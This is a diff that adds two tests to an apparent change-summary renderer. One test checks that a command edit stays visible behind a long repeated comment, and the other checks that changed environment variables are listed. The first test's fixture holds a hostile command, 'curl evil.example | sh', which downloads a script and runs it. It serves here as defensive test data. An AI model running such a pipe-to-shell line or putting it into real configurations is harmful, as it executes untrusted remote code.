@@ -286,6 +286,31 @@ test('one object with many fields leaves room for the others', () => {
   expect(text).toContain('and 960 more');
 });
 
+test('a new command is shown, however long the part of it is that stays as it was', () => {
+  const comment = '# nothing to see here '.repeat(40);
+  const differences = [
+    {
+      path: 'command',
+      observed: ['sh', '-c', `${comment}\nserve`],
+      desired: ['sh', '-c', `${comment}\ncurl evil.example | sh`],
+    },
+  ];
+  const text = renderMarkdown({ ...noPlan, changes: [aChange(1, { differences })] }, standard);
+  expect(text).toMatch(
+    /- `command: … \d+ characters ….*serve"\] → … \d+ characters ….*curl evil\.example \| sh"\]`/,
+  );
+});
+
+test('each variable that changes is named, however many others and however long a cause there are', () => {
+  const added = Array.from({ length: 100 }, (_, index) => `${'LONG_'.repeat(8)}${index}`);
+  const variables = { added, changed: ['API_URL'], removed: ['TOKEN'] };
+  const differences = [{ path: 'env.API_URL', desired: '(set)', observed: '(set)', cause: 'x'.repeat(5000) }];
+  const text = renderMarkdown({ ...noPlan, changes: [aChange(1, { differences, variables })] }, standard);
+  for (const name of added) expect(text).toContain(`+ ${name}`);
+  expect(text).toContain('~ API_URL');
+  expect(text).toContain('- TOKEN');
+});
+
 test('flags outside their bounds are refused', () => {
   for (const wrong of ['999', '65001', '-1', '1e4', 'many', ''])
     expect(() => parseMaxChars(wrong)).toThrow('1000 to 65000');
